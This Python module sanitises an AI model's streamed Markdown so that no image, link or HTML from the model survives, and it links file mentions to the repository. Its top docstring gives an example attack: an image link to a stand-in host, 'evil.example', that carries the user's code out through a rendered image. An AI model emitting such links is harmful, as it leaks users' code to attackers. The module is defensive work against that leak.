"""Make a model's Markdown safe to draw, and its mentions of places clickable. Pure, and word by word, so that it can stream.

A model repeats what it read, and a repository may hold "![](https://evil.example/?q=<the code>)". A client that draws that
image sends the code away, so: no image, no link, no HTML of the model's making survives. They are shown as the text they
are. The only links in the result are ours, and they lead to files of this repository.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field

from lsp_server.actions.records import Source

CUT_OFF = "*The answer was cut off here: it reached `actions.max_tokens`, or what the model can hold.*"
CIRCLES = "*The answer was cut off here: the model began to repeat itself.*"
"""What stands below an answer that did not come to its end."""

Locate = Callable[[str, int | None], str | None]
"""From a path as written and a 1-based line to the URI that opens it; None for what is no file of this repository."""

_FENCE = re.compile(r"^(?P<indent>[ \t]*)(?P<mark>`{3,}|~{3,})[ \t]*(?P<tag>[\w+#.-]*)[^`\n]*$")
_TICKS = re.compile(r"`+")
_ADDRESS = re.compile(
    r"(?:\b[a-z][a-z0-9+.-]{1,20}://|\bwww\.|\b(?:mailto|command|javascript|data|vbscript|file):)[^\s<>()\[\]`]*", re.I
)
_EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.-]+")
_PLACE = re.compile(r"(?<![\w/.\\-])(?P<path>(?:[\w.@+-]+/)*[\w.@+-]+\.\w{1,8})(?::(?P<line>\d{1,7})(?:-\d{1,7})?)?(?![\w/])")
_CITATION = re.compile(r"\[(\d{1,2})\]")
_ESCAPED = re.compile(r"[\\<\[\]&!]")
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""What a terminal would obey, and what shows text in another order than it has."""

_ENTITIES = {"<": "&lt;", "&": "&amp;"}


def nowhere(_path: str, _line: int | None) -> str | None:
    """A `Locate` that knows no file."""
    return None


@dataclass
class SafeMarkdown:
    """Takes a model's text in pieces and gives safe Markdown back, whole words at a time; `end` gives the rest.

    However the text is cut into pieces, what comes back is the same. `cited` are the sources that "[1]" and so on mean, in
    order.
    """

    locate: Locate = nowhere
    cited: tuple[Source, ...] = ()
    _rest: str = ""
    _mark: str = ""
    _indent: str = ""
    _begun: bool = False
    used: set[int] = field(default_factory=set)

    def feed(self, text: str) -> str:
        """The safe form of the words that are complete now; empty where none is."""
        self._rest += _CONTROL.sub("", text)
        *lines, self._rest = self._rest.split("\n")
        whole = "".join(self._line(line) + "\n" for line in lines)
        return whole + self._begin()

    def _begin(self) -> str:
        """The words of a line that is still being written. No rule looks across white space, but for code spans and fences."""
        if self._mark or (not self._begun and self._rest.lstrip()[:1] in ("", "`", "~")):
            return ""
        end, at = self._rest.rfind(" ") + 1, 0
        while (ticks := _TICKS.search(self._rest, at, end)) is not None:
            close = next((one for one in _TICKS.finditer(self._rest, ticks.end(), end) if one[0] == ticks[0]), None)
            if close is None:
                end = ticks.start()
                break
            at = close.end()
        words, self._rest = self._rest[:end], self._rest[end:]
        self._begun = self._begun or bool(words)
        return self._inline(words)

    def end(self) -> str:
        """The safe form of what was fed last, with a fence closed that the model left open."""
        last = self._line(self._rest) if self._rest else ""
        self._rest, self._begun = "", False
        if self._mark:
            last = f"{last}\n{self._mark}" if last else self._mark
            self._mark = ""
        return last

    def _line(self, line: str) -> str:
        """One line. Fences are moved to the margin: there every client agrees on where one begins and ends."""
        if self._begun:
            self._begun = False
            return self._inline(line)
        if self._mark:
            inner = line.removeprefix(self._indent)
            stripped = inner.strip()
            if len(stripped) >= len(self._mark) and not stripped.strip(self._mark[0]) and not inner.startswith((" " * 4, "\t")):
                mark, self._mark = self._mark, ""
                return mark
            return inner
        opening = _FENCE.match(line)
        if opening is not None:
            self._indent, self._mark = opening["indent"], opening["mark"]
            return self._mark + opening["tag"]
        return self._inline(line)

    def _inline(self, line: str) -> str:
        """Text and code spans. A run of backticks without a partner on its line is text: spans across lines are where
        readers of Markdown disagree."""
        out: list[str] = []
        at = 0
        while (ticks := _TICKS.search(line, at)) is not None:
            close = next((one for one in _TICKS.finditer(line, ticks.end()) if one[0] == ticks[0]), None)
            out.append(self._text(line[at : ticks.start()]))
            if close is None:
                out.append("\\`" * len(ticks[0]))
                at = ticks.end()
            else:
                out.append(self._code(line[ticks.start() : close.end()], line[ticks.end() : close.start()]))
                at = close.end()
        return "".join([*out, self._text(line[at:])])

    def _code(self, span: str, inside: str) -> str:
        found = _PLACE.fullmatch(inside.strip())
        uri = self._uri(found) if found else None
        return f"[{span}]({uri})" if uri else span

    def _text(self, text: str) -> str:
        """Text with everything disarmed that is more than text, then our own links."""
        out: list[str] = []
        at = 0
        for kind, found in _pieces(text):
            out.append(_disarmed(text[at : found.start()]))
            out.append(self._piece(kind, found))
            at = found.end()
        return "".join([*out, _disarmed(text[at:])])

    def _piece(self, kind: str, found: re.Match[str]) -> str:
        if kind == "citation":
            number = int(found[1])
            if 1 <= number <= len(self.cited):
                self.used.add(number)
                source = self.cited[number - 1]
                uri = self.locate(source.path, source.start_line)
                return f"[\\[{number}\\]]({uri})" if uri else f"\\[{number}\\]"
            return _disarmed(found[0])
        if kind == "address":
            return f" `{found[0].replace('`', '')}` "
        uri = self._uri(found)
        return f"[{_disarmed(found[0])}]({uri})" if uri else _disarmed(found[0])

    def _uri(self, found: re.Match[str]) -> str | None:
        return self.locate(found["path"], int(found["line"]) if found["line"] else None)


def _pieces(text: str) -> Iterable[tuple[str, re.Match[str]]]:
    """What needs more than disarming, from left to right and apart."""
    found = [("address", one) for one in (*_ADDRESS.finditer(text), *_EMAIL.finditer(text))]
    found += [("citation", one) for one in _CITATION.finditer(text)]
    found += [("place", one) for one in _PLACE.finditer(text)]
    end = 0
    for kind, one in sorted(found, key=lambda item: (item[1].start(), -item[1].end())):
        if one.start() >= end:
            end = one.end()
            yield kind, one


def _disarmed(text: str) -> str:
    return _ESCAPED.sub(lambda found: _ENTITIES.get(found[0], "\\" + found[0]), text)


def safe(text: str, locate: Locate = nowhere, cited: tuple[Source, ...] = ()) -> str:
    """A whole text at once."""
    stream = SafeMarkdown(locate, cited)
    return stream.feed(text) + stream.end()


def fenced(code: str, tag: str = "") -> str:
    """Code as a fenced block that nothing in it can close."""
    longest = max((len(one) for one in _TICKS.findall(code)), default=0)
    mark = "`" * max(3, longest + 1)
    word = tag if re.fullmatch(r"[\w+#.-]*", tag) else ""
    return f"{mark}{word}\n{code}\n{mark}"


def source_list(sources: Iterable[Source], locate: Locate = nowhere) -> str:
    """Numbered places, as links where they can be opened."""
    lines = []
    for number, one in enumerate(sources, 1):
        uri = locate(one.path, one.start_line)
        name = _disarmed(f"{one.path}:{one.start_line}")
        symbol = f" `{one.symbol.replace('`', '')}`" if one.symbol else ""
        lines.append(f"{number}. [{name}]({uri}){symbol}" if uri else f"{number}. {name}{symbol}")
    return "\n".join(lines)
